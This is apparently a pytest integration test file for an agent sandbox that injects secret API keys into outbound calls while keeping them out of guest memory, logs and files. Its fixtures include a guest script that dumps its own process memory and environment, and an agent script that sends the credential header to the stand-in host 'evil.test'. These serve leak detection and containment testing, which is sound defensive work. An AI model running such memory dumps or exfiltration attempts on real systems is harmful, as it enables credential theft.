"""A guest uses a key that it never has, through agentctl and the real sandbox, against a TLS server on the loopback.

The key is a canary: while the call succeeds, it is in no byte of the guest's memory, environment and arguments, nor of
files, logs, journal and answers. The same search finds it in a build that leaks, so it can fail.
"""

import http.server
import json
import os
import secrets
import ssl
import subprocess
import threading
from base64 import b64encode
from collections.abc import Generator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Self
from urllib.parse import quote

import pytest

import leftovers
from guests.agentctl import AGENTCTL, Machine
from guests.canary import Place, files_below, memory_of, processes_of, sought, words_of
from guests.mock_provider import Provider, Say
from guests.packages import NotToBeHad, Package, obtain
from kernel.egress.certificates import Authority

pytestmark = pytest.mark.integration

OPENAI = Package("openai-client", "pip", "openai==3.49.0", 120)
ANTHROPIC = Package("anthropic-client", "pip", "anthropic==2.8.0", 120)

ASKS = """
import os, sys, urllib.request
url, headers = os.environ["AGENT_OS_ROUTE_KEY"] + "/echo", {"Authorization": "Bearer placeholder"}
request = urllib.request.Request(url, b"{}", headers)
with urllib.request.urlopen(request) as answer:
    told = answer.read()
open("answer.txt", "wb").write(told)
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory, open("memory.bin", "wb") as copy:
    for line in maps.readlines():
        begin, end = (int(part, 16) for part in line.split()[0].split("-"))
        if "r" in line.split()[1] and "[v" not in line:
            memory.seek(begin)
            try:
                while begin < end and (piece := memory.read(min(1 << 20, end - begin))):
                    begin += copy.write(piece)
            except OSError:
                pass
    copy.write(open("/proc/self/environ", "rb").read())
print(len(told), told[:60].decode(), flush=True)
sys.stdin.readline()
"""


@dataclass
class Echo:
    """A provider that answers with the key it was given, in every spelling, a byte at a time."""

    authority: Authority
    keys: list[str] = field(default_factory=list[str])

    def __enter__(self) -> Self:
        keys = self.keys

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_POST(self) -> None:
                self.rfile.read(int(self.headers["Content-Length"]))
                keys.append(self.headers["Authorization"].removeprefix("Bearer "))
                self.send_response(200)
                self.send_header("X-Your-Key", keys[-1])
                self.send_header("Transfer-Encoding", "chunked")
                self.end_headers()
                for byte in _told(keys[-1].encode()):
                    self.wfile.write(b"1\r\n%c\r\n" % byte)
                self.wfile.write(b"0\r\n\r\n")

            def log_message(self, format: str, *args: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        _wrap(self._server, self.authority)
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05})
        self._thread.start()
        return self

    def __exit__(self, *problem: object) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()

    @property
    def port(self) -> int:
        return self._server.server_address[1]


def _told(key: bytes) -> bytes:
    spelled = [key, b64encode(key), b64encode(b"u" + key), b64encode(b"u:" + key), key.hex().encode()]
    return b"it is: " + b" ".join([*spelled, key.hex().upper().encode(), quote(key, safe="").encode()]) + b" ok?"


def _wrap(server: http.server.HTTPServer, authority: Authority) -> None:
    server.socket = authority.server("localhost").wrap_socket(server.socket, server_side=True)


class Secure(Provider):
    """The mock provider behind TLS."""

    authority: Authority

    def __enter__(self) -> Self:
        super().__enter__()
        _wrap(self._server, self.authority)
        return self

    @property
    def port(self) -> int:
        return self._server.server_address[1]


@pytest.fixture
def authority(tmp_path: Path) -> Authority:
    return Authority.new(tmp_path / "authority")


@pytest.fixture
def machine(tmp_path: Path, authority: Authority) -> Machine:
    machine = Machine(tmp_path)
    machine.env["SSL_CERT_FILE"] = str(authority.file)  # of the kernel; a guest is given nothing of it
    return machine


@pytest.fixture
def key() -> str:
    return f"sk-canary/{secrets.token_urlsafe(24)}+{secrets.token_hex(4)}"


def keep(machine: Machine, key: str, *binding: str) -> None:
    ran = machine.finished([*AGENTCTL, "secrets", "set", "key"], f"{key}\n".encode(), machine.project, machine.env)
    assert ran.code == 0, ran.err
    ran = machine.agentctl("secrets", "bind", "key", *binding)
    assert ran.code == 0, ran.err


def told(machine: Machine, *words: str) -> bytes:
    done = subprocess.run([*AGENTCTL, *words], env=machine.env, cwd=machine.project, capture_output=True, check=False)
    return done.stdout + done.stderr


@contextmanager
def asking(machine: Machine, port: int, *flags: str) -> Generator[tuple[dict[str, Any], bytes]]:
    """A guest that has had its answer and waits, its row in the list, and the first line it said."""
    (machine.project / "asks.py").write_text(ASKS)
    needed = ["--net", f"127.0.0.1:{port}", "--secret", "key", "--name", "asker", "--timeout", "60s", *flags]
    process = machine.start("python3", "asks.py", flags=needed, stdin=subprocess.PIPE)
    assert process.stdout
    try:
        line = process.stdout.readline()
        listed = json.loads(told(machine, "ps", "-o", "json"))["agents"] if line else []
        yield listed[0] if listed else {}, line
    finally:
        process.communicate(timeout=60)  # its input ends, and so does it


def everything(machine: Machine, row: dict[str, Any], said: bytes) -> list[Place]:
    """Whatever the run shows and keeps while the guest lives. Its memory is read from outside where the host allows
    that, to root always; the guest's own copy of it is among its files, for everybody."""
    pids = processes_of(row["pid"])
    assert pids
    places: list[Place] = [("what it said", said), *words_of(machine.kernel)]
    for pid in pids:
        try:
            places += [*words_of(pid), *memory_of(pid)]
        except PermissionError:
            assert os.geteuid() != 0
    for words in ("inspect asker", "logs asker", "secrets ls", "audit tail -n 1000 -o json", "trace asker -o json"):
        places.append((f"agentctl {words}", told(machine, *words.split())))
    return [*places, *files_below(machine.state, machine.home)]


def test_a_canary_is_used_and_in_no_byte(machine: Machine, authority: Authority, key: str) -> None:
    with Echo(authority) as provider:
        keep(machine, key, "--host", f"localhost:{provider.port}")
        with asking(machine, provider.port) as (row, said):
            assert row, said
            places = everything(machine, row, said)
        assert provider.keys == [key]  # the call succeeded, with the key
    told_of = len(_told(key.encode()))
    assert said.startswith(f"{told_of} it is: ****".encode())
    assert any(name.endswith("/answer.txt") for name, _ in places), "the search saw the guest's files"
    seen = sought(b"Bearer placeholder", places)
    assert [one for one in seen if "/memory.bin: raw" in one], "the search finds what is there"
    assert os.geteuid() != 0 or [one for one in seen if one.startswith("memory of ")]
    assert sought(key.encode(), places) == []
    after = [*files_below(machine.top / "state", machine.home), ("events", told(machine, "events", "-o", "json"))]
    assert sought(key.encode(), after) == []
    uses = [facts for facts in machine.records("secret use") if facts["secret"] == "key"]
    assert [(one["host"], one["port"], one["method"]) for one in uses] == [("localhost", provider.port, "POST")]
    listed = json.loads(told(machine, "secrets", "ls", "-o", "json"))["secrets"]
    assert [(one["name"], one["uses"]) for one in listed] == [("key", 1)]


def test_a_build_that_leaks_is_caught(machine: Machine, authority: Authority, key: str) -> None:
    """The same run on a kernel whose redaction is taken out."""
    patch = machine.top / "patch"
    patch.mkdir()
    (patch / "sitecustomize.py").write_text(
        "from agent_os.kernel.authority.redaction import Needles\n"
        "from agent_os.kernel.authority.secrets import Safe\n"
        "Safe.needles = lambda self: Needles(())\n"
    )
    machine.env["PYTHONPATH"] = os.pathsep.join([str(patch), *filter(None, [machine.env.get("PYTHONPATH")])])
    with Echo(authority) as provider:
        keep(machine, key, "--host", f"localhost:{provider.port}")
        with asking(machine, provider.port) as (row, said):
            assert row, said
            places = everything(machine, row, said)
    found = sought(key.encode(), places)
    assert "what it said: raw" in found
    assert [one for one in found if "/answer.txt: base64+2" in one]
    assert [one for one in found if "agentctl logs asker: raw" in one]
    assert [one for one in found if "/memory.bin: raw" in one]
    if os.geteuid() == 0:
        assert [one for one in found if one.startswith("memory of ") and one.endswith(": raw")]


def test_a_key_in_the_environment_is_caught(machine: Machine, authority: Authority, key: str) -> None:
    """What people do without us."""
    with Echo(authority) as provider:
        keep(machine, key, "--host", f"localhost:{provider.port}")
        with asking(machine, provider.port, "--env", f"OPENAI_API_KEY={key}") as (row, said):
            assert row, said
            places = everything(machine, row, said)
    found = sought(key.encode(), places)
    assert [one for one in found if "/memory.bin: raw" in one]
    assert os.geteuid() != 0 or [one for one in found if one.startswith("environ of ")]
    assert [one for one in found if "journal.db" in one]


# Official clients, unmodified.

CALLS_OPENAI = """
import openai
client = openai.OpenAI()
ask = {"model": "mock-1", "messages": [{"role": "user", "content": "hi"}]}
print(client.chat.completions.create(**ask).choices[0].message.content)
parts = client.chat.completions.create(**ask, stream=True)
print("".join(part.choices[0].delta.content or "" for part in parts if part.choices))
"""
CALLS_ANTHROPIC = """
import anthropic
client = anthropic.Anthropic()
ask = {"model": "mock-1", "max_tokens": 64, "messages": [{"role": "user", "content": "hi"}]}
print(client.messages.create(**ask).content[0].text)
with client.messages.stream(**ask) as stream:
    print("".join(stream.text_stream))
"""


@pytest.mark.parametrize(
    ("package", "program", "binding", "header", "variables"),
    [
        (OPENAI, CALLS_OPENAI, (), "Authorization", {"OPENAI_BASE_URL": "/v1", "OPENAI_API_KEY": None}),
        (ANTHROPIC, CALLS_ANTHROPIC, ("--header", "x-api-key"), "X-Api-Key",
         {"ANTHROPIC_BASE_URL": "", "ANTHROPIC_API_KEY": None}),
    ],
    ids=["openai", "anthropic"],
)  # fmt: skip
def test_an_official_client_works_with_a_placeholder(
    machine: Machine,
    authority: Authority,
    key: str,
    package: Package,
    program: str,
    binding: tuple[str, ...],
    header: str,
    variables: dict[str, str | None],
) -> None:
    commands = obtain(package)
    if isinstance(commands, NotToBeHad):
        pytest.skip(f"{package.name}: {commands}")
    (machine.project / "calls.py").write_text(program)
    door = "http://127.0.0.1:3128/_api/key"
    env = [f"--env={name}={'placeholder' if path is None else door + path}" for name, path in variables.items()]
    provider = Secure([Say("the first answer"), Say("the second one")])
    provider.authority = authority
    with provider:
        keep(machine, key, "--host", f"localhost:{provider.port}", *binding)
        flags = ["--net", f"127.0.0.1:{provider.port}", "--secret", "key", "--timeout", "100s", *env]
        ran = machine.run(commands / "python", "calls.py", flags=flags)
    assert (ran.code, ran.lines) == (0, ["the first answer", "the second one"]), ran.err
    assert provider.problems == []
    keys = [{name.lower(): value for name, value in one.headers.items()}[header.lower()] for one in provider.told]
    assert [one.removeprefix("Bearer ") for one in keys] == [key, key]
    assert not any("placeholder" in str(request.headers) for request in provider.told)
    assert sought(key.encode(), [("out", ran.out), ("err", ran.err.encode()), *files_below(machine.state)]) == []


@pytest.mark.parametrize("package", [OPENAI, ANTHROPIC], ids=["openai", "anthropic"])
def test_an_official_client_shows_why_it_was_refused(
    machine: Machine, authority: Authority, key: str, package: Package
) -> None:
    commands = obtain(package)
    if isinstance(commands, NotToBeHad):
        pytest.skip(f"{package.name}: {commands}")
    program, variable = (CALLS_OPENAI, "OPENAI") if package is OPENAI else (CALLS_ANTHROPIC, "ANTHROPIC")
    (machine.project / "calls.py").write_text(program)
    env = [f"--env={variable}_BASE_URL=http://127.0.0.1:3128/_api/key", f"--env={variable}_API_KEY=placeholder"]
    provider = Secure([Say("never")])
    provider.authority = authority
    with provider:
        keep(machine, key, "--host", f"localhost:{provider.port}", "--method", "GET")
        flags = ["--net", f"127.0.0.1:{provider.port}", "--secret", "key", "--timeout", "100s", *env]
        ran = machine.run(commands / "python", "calls.py", flags=flags)
    assert ran.code == 1
    assert "PermissionDeniedError" in ran.err
    assert "key is bound for GET, not for POST" in ran.err
    assert provider.requests == []


# An agent that wants to have it sent elsewhere.

WANDERS = """
import http.client, os, time
for host in ("evil.test", "evil.test"):
    proxy = http.client.HTTPConnection("127.0.0.1", 3128)
    proxy.request("GET", f"http://{host}/take", headers={"Authorization": os.environ["SENT"]})
    print(proxy.getresponse().status, flush=True)
    os.environ["SENT"] = "nothing"
    time.sleep(3)  # it is told no a moment before it is held
"""


def states(machine: Machine) -> list[str]:
    return [row["state"] for row in json.loads(told(machine, "ps", "-o", "json"))["agents"]]


def test_an_agent_that_sends_the_placeholder_elsewhere_is_held(
    machine: Machine, authority: Authority, key: str
) -> None:
    (machine.project / "wanders.py").write_text(WANDERS)
    keep(machine, key, "--host", "api.example.com")
    flags = [
        "--net",
        "evil.test",
        "--secret",
        "key",
        "--name",
        "wanderer",
        "--timeout",
        "60s",
        "--env",
        "SENT=Bearer placeholder",
    ]
    process = machine.start("python3", "wanders.py", flags=flags)
    try:
        assert leftovers.becomes_true(lambda: states(machine) == ["paused"])
        misuse = machine.records("secret misuse")
        assert [(one["secret"], one["what"], one["where"]) for one in misuse] == [
            ("key", "placeholder", "evil.test:80")
        ]
        assert b"resumed" in told(machine, "resume", "wanderer")
        out, err = process.communicate(timeout=60)
    finally:
        process.kill()
        process.communicate()
    assert out.decode().split() == ["403", "502"]  # then it asks for a host that does not exist
    assert b"held: it sent the placeholder" in err


def test_a_guest_cannot_choose_whom_the_kernel_trusts(machine: Machine, key: str) -> None:
    other = Authority.new(machine.top / "other")
    (machine.project / "asks.py").write_text(ASKS)
    with Echo(other) as provider:
        keep(machine, key, "--host", f"localhost:{provider.port}")
        trust = ["--env", f"SSL_CERT_FILE={other.file}", "--env", "SSL_CERT_DIR=/work"]
        flags = ["--net", f"127.0.0.1:{provider.port}", "--secret", "key", *trust]
        ran = machine.run("python3", "asks.py", flags=flags)
    assert ran.code == 1
    assert "502" in ran.err
    assert provider.keys == []
    assert isinstance(ssl.create_default_context(cafile=str(other.file)), ssl.SSLContext)


@pytest.mark.parametrize(
    ("words", "why"),
    [
        (("--secret", "nobody"), "there is no secret nobody"),
        (("--secret", "key=evil.test"), "a route leads to one of them"),
        (("--secret", "key", "--name", "other"), "not bound for other"),
        (("--secret", "key", "--secret", "key", "--name", "asker"), "twice"),
    ],
)
def test_a_route_that_no_binding_allows_starts_nothing(
    machine: Machine, key: str, words: tuple[str, ...], why: str
) -> None:
    keep(machine, key, "--host", "api.example.com", "--agent", "asker")
    ran = machine.run("true", flags=words)
    assert ran.code == 125
    assert why in ran.err
